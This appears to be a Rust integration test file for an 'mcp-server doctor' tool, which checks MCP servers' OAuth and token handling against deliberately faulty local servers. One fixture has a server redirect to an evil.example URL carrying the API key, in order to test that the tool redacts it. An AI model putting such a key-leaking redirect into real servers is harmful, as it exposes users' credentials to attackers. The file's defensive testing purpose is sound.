//! `mcp-server doctor` against our own server, which is healthy; against the same server with one fault at a time,
//! each of which it must notice and name; and against what is no server at all.

use std::collections::BTreeSet;
use std::convert::Infallible;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use doctor::Doctor;
use doctor::check::Outcome;
use doctor::login::Connections;
use doctor::report::{Report, Style};
use doctor::target::Target;
use http::{Request, Response};
use http_body_util::Full;
use hyper::body::Incoming;
use hyper::server::conn::http1;
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use sealing::SecretString;
use serde_json::{Value, json};

use crate::support::TestServer;
use crate::support::broken::{Broken, Fault};
use crate::support::login::ALPHA;
use crate::support::server::run;

mod authorization;
mod discovery;
mod tokens;

/// What cannot run against a server on this machine: browsers ignore HSTS over http.
const NEEDS_HTTPS: &str = "E13-hsts";

/// Examines a server in this process.
async fn examine(url: &str, key: Option<&str>, budget: Duration) -> Report {
    let target = Target::parse(url).unwrap();
    let key = key.map(|key| SecretString::new(key.to_owned()));
    let doctor = Doctor::with_times(target, key, budget, Duration::from_secs(120)).unwrap();
    doctor.examine(|_| {}).await
}

fn ids(report: &Report, ended: fn(&Outcome) -> bool) -> BTreeSet<&'static str> {
    report.results().filter(|(_, outcome)| ended(outcome)).map(|(check, _)| check.id).collect()
}

fn failed(report: &Report) -> BTreeSet<&'static str> {
    ids(report, |outcome| matches!(outcome, Outcome::Failed(_)))
}

fn skipped(report: &Report) -> BTreeSet<&'static str> {
    ids(report, |outcome| matches!(outcome, Outcome::Skipped(_)))
}

/// Everything that is wrong, with its lines, for a failing test.
fn lines(report: &Report) -> String {
    report.groups.iter().map(|group| Style { color: false }.group(group)).collect::<String>()
        + &Style { color: false }.summary(report)
}

/// Switches each fault on alone: the checks that it names fail, and no others; what cannot run any more says so.
async fn notices(faults: Vec<Fault>) {
    let broken = Broken::start().await;
    let mut wrong = Vec::new();
    for fault in faults.into_iter().map(Arc::new) {
        broken.switch_on(&fault);
        // Only the endpoint that never answers is waited for; nothing else is to be too slow.
        let budget = if fault.fails == ["T2"] { Duration::from_secs(10) } else { Duration::from_secs(30) };
        let report = examine(&format!("{}/mcp", broken.url), fault.needs_key.then_some(ALPHA), budget).await;
        let expected: BTreeSet<&str> = fault.fails.iter().copied().collect();
        let found = failed(&report);
        if found != expected {
            wrong.push(format!("{}: expected {expected:?}, found {found:?}\n{}", fault.name, lines(&report)));
        }
        if let Some(skips) = &fault.skips {
            let expected: BTreeSet<&str> = skips.iter().copied().chain([NEEDS_HTTPS]).collect();
            let found = skipped(&report);
            if found != expected {
                wrong.push(format!("{}: expected to skip {expected:?}, found {found:?}", fault.name));
            }
        }
        for (check, outcome) in report.results() {
            if let Outcome::Failed(fault) = outcome {
                assert!(fault.request.contains("http://"), "{}: {}", check.id, fault.request);
                assert!(!fault.line.is_empty() && !fault.wanted.is_empty(), "{}", check.id);
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

#[tokio::test]
async fn faults_of_challenges_are_noticed() {
    notices(discovery::challenges()).await;
}

#[tokio::test]
async fn faults_of_the_resources_metadata_are_noticed() {
    notices(discovery::resource()).await;
}

#[tokio::test]
async fn faults_of_the_servers_metadata_are_noticed() {
    notices(discovery::server()).await;
}

#[tokio::test]
async fn faults_of_the_transport_are_noticed() {
    notices(discovery::transport()).await;
}

#[tokio::test]
async fn faults_of_registration_are_noticed() {
    notices(authorization::registration()).await;
}

#[tokio::test]
async fn faults_of_authorization_requests_are_noticed() {
    notices(authorization::requests()).await;
}

#[tokio::test]
async fn faults_of_redirects_are_noticed() {
    notices(authorization::redirects()).await;
}

#[tokio::test]
async fn faults_of_pages_are_noticed() {
    notices(authorization::pages()).await;
}

#[tokio::test]
async fn faults_of_consent_are_noticed() {
    notices(authorization::consent()).await;
}

#[tokio::test]
async fn faults_of_the_token_endpoint_are_noticed() {
    notices(tokens::endpoints()).await;
}

#[tokio::test]
async fn faults_of_cors_are_noticed() {
    notices(tokens::cors()).await;
}

#[tokio::test]
async fn faults_of_the_login_are_noticed() {
    notices(tokens::login()).await;
}

/// A healthy server passes, and a check that no fault can fail would be no check.
#[tokio::test]
async fn a_healthy_server_passes_and_every_check_can_fail() {
    let broken = Broken::start().await;
    let url = format!("{}/mcp", broken.url);
    let report = examine(&url, Some(ALPHA), Duration::from_secs(30)).await;
    assert_eq!(failed(&report), BTreeSet::new(), "{}", lines(&report));
    assert_eq!(skipped(&report), BTreeSet::from([NEEDS_HTTPS]), "{}", lines(&report));
    assert_eq!(report.connections, Some(Connections { made: 2, revoked: 2 }));

    let all: Vec<&str> = report.results().map(|(check, _)| check.id).collect();
    let unique: BTreeSet<&str> = all.iter().copied().collect();
    assert_eq!(unique.len(), all.len(), "ids are unique");
    let tables = [
        discovery::challenges(),
        discovery::resource(),
        discovery::server(),
        discovery::transport(),
        authorization::registration(),
        authorization::requests(),
        authorization::redirects(),
        authorization::pages(),
        authorization::consent(),
        tokens::endpoints(),
        tokens::cors(),
        tokens::login(),
    ];
    let can_fail: BTreeSet<&str> = tables.iter().flatten().flat_map(|fault| fault.fails.clone()).collect();
    let cannot: Vec<_> = unique.difference(&can_fail).collect();
    assert_eq!(cannot, [&NEEDS_HTTPS], "no fault fails these");
    let unknown: Vec<_> = can_fail.difference(&unique).collect();
    assert!(unknown.is_empty(), "{unknown:?}");
}

/// A limit on requests is no fault: a doctor asks more at once than any client.
#[tokio::test]
async fn a_server_with_a_limit_is_given_time() {
    let broken = Broken::start().await;
    let count = Mutex::new(0);
    broken.switch_on(&Arc::new(Fault::new("one request in fifty is too many", &[], move |_, answer| {
        let mut count = count.lock().unwrap();
        *count += 1;
        if *count % 50 == 0 {
            answer.document(429, &json!({ "error": "slow_down" }));
            answer.set("retry-after", "0");
        }
    })));
    let report = examine(&format!("{}/mcp", broken.url), None, Duration::from_secs(30)).await;
    assert_eq!(failed(&report), BTreeSet::new(), "{}", lines(&report));
    assert_eq!(skipped(&report), BTreeSet::from([NEEDS_HTTPS]), "{}", lines(&report));
}

fn key_file(folder: &Path) -> String {
    let path = folder.join("key");
    std::fs::write(&path, format!("{ALPHA}\n")).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn the_command_passes_our_own_server_without_a_key() {
    let server = TestServer::start();
    let (code, out, err) = run(&["doctor", &server.mcp()]);
    assert_eq!((code, err.as_str()), (Some(0), ""), "{out}");
    assert!(out.contains("no credential is sent") && out.contains(" 0 failed, 1 skipped"), "{out}");
    assert!(!out.contains("Login") && !out.contains('\u{1b}'), "{out}");
    assert!(!server.requests().iter().any(|request| request == "POST /token 200"), "nobody signed in");
}

#[test]
fn the_command_signs_in_revokes_and_tells_nobody_the_key() {
    let server = TestServer::start();
    let folder = tempfile::tempdir().unwrap();
    let (code, out, err) = run(&["doctor", &server.mcp(), "--key-file", &key_file(folder.path())]);
    assert_eq!((code, err.as_str()), (Some(0), ""), "{out}");
    assert!(
        out.contains("this makes connections") && out.contains("2 connections were made, and revoked"),
        "{out}"
    );
    assert!(!out.contains(ALPHA) && !out.contains("opqat_") && !out.contains("opqrt_"), "{out}");

    let (code, out, err) = run(&["doctor", "--json", &server.mcp(), "--key-file", &key_file(folder.path())]);
    assert_eq!((code, err.as_str()), (Some(0), ""), "{out}");
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["summary"]["failed"], 0);
    assert_eq!(report["connections"], json!({ "made": 2, "revoked": 2 }));
    let checks = report["checks"].as_array().unwrap();
    assert_eq!(report["summary"]["passed"].as_u64().unwrap() + 1, checks.len() as u64);
    assert!(checks.iter().all(|check| check["id"].is_string() && check["why"].is_string()), "{out}");
    assert!(!out.contains(ALPHA) && !out.contains("opqat_"), "{out}");
}

/// What begins a login is not looked at where nobody has to log in; that this is so is a fault unless it is meant. All the
/// rest is there, for those who sign in with a key of their own.
#[tokio::test]
async fn a_server_that_lends_its_operators_key_is_seen_as_what_it_is() {
    let sandbox = openphone_sandbox::Sandbox::start().await.unwrap();
    let upstream = sandbox.base_url();
    let open = TestServer::start_before_with(&upstream, &["--single-tenant"], &[]);
    let report = examine(&open.mcp(), Some(ALPHA), Duration::from_secs(30)).await;
    assert_eq!(failed(&report), BTreeSet::from(["B7"]), "{}", lines(&report));
    assert!(lines(&report).contains("whoever reaches this server may use it"), "{}", lines(&report));

    let target = Target::parse(&open.mcp()).unwrap();
    let meant = Doctor::new(target, None).unwrap().meant_open(true).examine(|_| {}).await;
    assert_eq!(failed(&meant), BTreeSet::new(), "{}", lines(&meant));
    let expected = ["B7", "B7-bare", "B7-scope", "B12", "B1-origin", NEEDS_HTTPS];
    assert_eq!(skipped(&meant), BTreeSet::from(expected), "{}", lines(&meant));
    assert!(lines(&meant).contains("the server asks nobody for a token"), "{}", lines(&meant));

    // With an access token, and with keys in a header, a stranger meets the login and nothing else.
    let token = [("OPENPHONE_MCP_ACCESS_TOKEN", "0123456789-0123456789-0123456789-01")];
    let closed = TestServer::start_before_with(&upstream, &["--single-tenant", "--header-keys"], &token);
    let report = examine(&closed.mcp(), Some(ALPHA), Duration::from_secs(30)).await;
    assert_eq!(failed(&report), BTreeSet::new(), "{}", lines(&report));
    assert_eq!(skipped(&report), BTreeSet::from([NEEDS_HTTPS]), "{}", lines(&report));
}

/// A server that shows the key wherever it can.
#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_tells_the_key_gets_no_help() {
    let broken = Broken::start().await;
    broken.switch_on(&Arc::new(Fault::new("it tells the key", &[], |asked, answer| {
        if asked.is("POST", "/authorize") && asked.get("api_key") == ALPHA {
            answer.redirect(303, &format!("https://evil.example/?key={ALPHA}&again={ALPHA}"));
        } else if asked.is("POST", "/authorize") {
            answer.page(200);
            answer.set("x-key", ALPHA);
        }
    })));
    let (url, folder) = (format!("{}/mcp", broken.url), tempfile::tempdir().unwrap());
    let key = key_file(folder.path());
    for format in [None, Some("--json")] {
        let mut arguments = vec!["doctor".to_owned(), url.clone(), "--key-file".to_owned(), key.clone()];
        arguments.extend(format.map(str::to_owned));
        let ended = tokio::task::spawn_blocking(move || {
            run(&arguments.iter().map(String::as_str).collect::<Vec<_>>())
        });
        let (code, out, err) = ended.await.unwrap();
        assert_eq!(code, Some(1), "{out}");
        assert!(out.contains("evil.example/?key=[secret]&again=[secret]"), "{out}");
        assert!(!out.contains(ALPHA) && !err.contains(ALPHA), "{out}{err}");
        assert!(err.ends_with("checks failed\n"), "{err}");
    }
}

/// The key goes to the host that was typed, whatever the metadata say.
#[tokio::test]
async fn the_key_goes_nowhere_else() {
    let broken = Broken::start().await;
    let typed = Arc::new(Mutex::new(false));
    let seen = Arc::clone(&typed);
    let elsewhere = Fault::new("the form is on another host", &[], |asked, answer| {
        if asked.path.starts_with("/.well-known/oauth-authorization-server") {
            answer.edit(|document| {
                let endpoint =
                    document["authorization_endpoint"].as_str().unwrap().replace("127.0.0.1", "localhost");
                document["authorization_endpoint"] = json!(endpoint);
            });
        }
    });
    let watched = Fault::lenient("", &[], move |asked| {
        if asked.get("api_key") == ALPHA {
            *seen.lock().unwrap() = true;
        }
    });
    broken.switch_on(&Arc::new(watched.and(move |asked, answer| elsewhere.apply(asked, answer))));
    let report = examine(&format!("{}/mcp", broken.url), Some(ALPHA), Duration::from_secs(30)).await;
    let login = report.results().find(|(check, _)| check.id == "S1").unwrap();
    let Outcome::Skipped(reason) = &login.1 else { panic!("{login:?}") };
    assert!(reason.contains("the key goes to http://127.0.0.1:"), "{reason}");
    assert!(!*typed.lock().unwrap(), "the key was sent");
    assert_eq!(report.connections, Some(Connections::default()));
}

#[test]
fn a_server_that_is_down_is_one_failure() {
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let (code, out, err) = run(&["doctor", &format!("http://{free}/mcp")]);
    assert_eq!(code, Some(1));
    assert!(out.contains("FAIL  T1") && out.contains("no connection: "), "{out}");
    assert!(out.contains("Nothing else was tried: the server does not answer"), "{out}");
    assert!(out.contains("\n0 passed, 1 failed, 3 skipped") && out.lines().count() < 20, "{out}");
    assert_eq!(err, "mcp-server: 1 check failed\n");
}

/// Answers everything in the same way.
async fn monotonous(status: u16, kind: &'static str, body: &'static str) -> String {
    let socket = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/mcp", socket.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((stream, _)) = socket.accept().await {
            let service = service_fn(move |_: Request<Incoming>| async move {
                let response = Response::builder().status(status).header("content-type", kind);
                Ok::<_, Infallible>(response.body(Full::new(Bytes::from_static(body.as_bytes()))).unwrap())
            });
            tokio::spawn(http1::Builder::new().serve_connection(TokioIo::new(stream), service));
        }
    });
    url
}

#[tokio::test]
async fn what_is_no_server_of_ours_is_one_failure() {
    for (status, kind, body) in [
        (200, "text/html", "<!doctype html><title>Welcome</title><script>location='/'</script>"),
        (404, "application/json", "{\"error\":\"not_found\"}"),
        (200, "application/json", "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}"),
        (500, "text/plain", "oops \u{1b}[2J"),
        (204, "text/plain", ""),
    ] {
        let report =
            examine(&monotonous(status, kind, body).await, Some(ALPHA), Duration::from_secs(30)).await;
        assert_eq!(failed(&report), BTreeSet::from(["B7"]), "{}", lines(&report));
        let text = lines(&report);
        assert!(text.contains("Nothing else was tried: this does not look like an MCP server"), "{text}");
        assert!(text.contains(&format!("< HTTP {status}")) && text.lines().count() < 15, "{text}");
        assert_eq!(report.connections, None);
    }
}

/// Nobody can keep a doctor busy: bodies are bounded, and so is the time for everything.
#[tokio::test]
async fn endless_answers_and_silence_have_an_end() {
    let socket = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/mcp", socket.local_addr().unwrap());
    let sent = Arc::new(Mutex::new(0_usize));
    let count = Arc::clone(&sent);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = socket.accept().await {
            let count = Arc::clone(&count);
            tokio::spawn(async move {
                use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
                let mut request = [0; 4096];
                let read = stream.read(&mut request).await.unwrap_or_default();
                let head = b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\n\r\n";
                let mut open = read > 0 && stream.write_all(head).await.is_ok();
                while open {
                    open = stream.write_all(&[b'x'; 64 * 1024]).await.is_ok();
                    *count.lock().unwrap() += 64 * 1024;
                }
            });
        }
    });
    let report = examine(&url, None, Duration::from_secs(60)).await;
    assert_eq!(failed(&report), BTreeSet::from(["B7"]), "{}", lines(&report));
    // A few requests, each of which is left after a megabyte; the rest was on its way.
    assert!(*sent.lock().unwrap() < 64 * 1024 * 1024);

    let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let target = Target::parse(&format!("http://{}/mcp", silent.local_addr().unwrap())).unwrap();
    let (budget, overall) = (Duration::from_secs(600), Duration::from_millis(200));
    let report = Doctor::with_times(target, None, budget, overall).unwrap().examine(|_| {}).await;
    assert_eq!(failed(&report), BTreeSet::from(["T2"]), "{}", lines(&report));
    assert_eq!(report.stopped.as_deref(), Some("the time for the whole examination was used up"));
}

#[test]
fn bad_arguments_are_exit_code_2() {
    let folder = tempfile::tempdir().unwrap();
    let empty = folder.path().join("empty");
    std::fs::write(&empty, "\n").unwrap();
    let (empty, missing) = (empty.to_str().unwrap(), folder.path().join("missing"));
    for (arguments, expected) in [
        (&["doctor"][..], "<URL>"),
        (&["doctor", "mcp.example.com/mcp"], "not a URL"),
        (&["doctor", "http://mcp.example.com/mcp"], "must be https"),
        (
            &["doctor", "http://127.0.0.1:1/mcp", "--key-file", missing.to_str().unwrap()],
            "--key-file: cannot read",
        ),
        (&["doctor", "http://127.0.0.1:1/mcp", "--key-file", empty], "must hold one API key"),
        (&["doctor", "http://127.0.0.1:1/mcp", "--key", "x"], "--key"),
    ] {
        let (code, out, err) = run(arguments);
        assert_eq!((code, out.as_str()), (Some(2), ""), "{arguments:?}: {err}");
        assert!(err.contains(expected), "{arguments:?}: {err}");
    }
}
